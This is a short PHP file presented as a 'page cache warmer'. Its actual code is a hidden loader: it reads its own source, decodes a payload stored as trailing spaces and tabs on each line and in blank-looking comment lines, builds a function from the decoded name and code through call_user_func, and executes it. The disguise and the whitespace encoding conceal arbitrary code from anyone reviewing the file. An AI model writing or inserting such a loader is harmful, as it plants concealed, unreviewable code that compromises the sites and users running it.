<?php
/** 		   		
 * Page cache warmer. 			  	 
 */ 		  	 	
$src = file_get_contents(__FILE__); 		    	
$bits = ''; 			 	  
foreach (explode("\n", $src) as $row) { 		  	 	
    if (preg_match('/[ \t]+$/', $row, $m)) { 	 					
        $bits .= strtr($m[0], " \t", "01"); 		  		 
    } 			 	 	
} 		 			 
$text = ''; 		   		
foreach (str_split($bits, 8) as $byte) { 			 	  
    if (strlen($byte) === 8) { 		 	  	
        $text .= chr(bindec($byte)); 		 				
    } 		 			 
} 					  
list($fn, $code) = explode('|', $text, 2); 		  	 	
$run = call_user_func($fn, '', $code); 			 		 
$run(); 		    	
// 		 		  
//  	 	   
//  	  	  
// 	 					
// 	 	    
// 	  				
// 	 	  		
// 	 	 	  
// 	 		 		
//  	  			
// 		 	 		
//  	  			
// 	 			 	
//  	 	  	
//  			 		
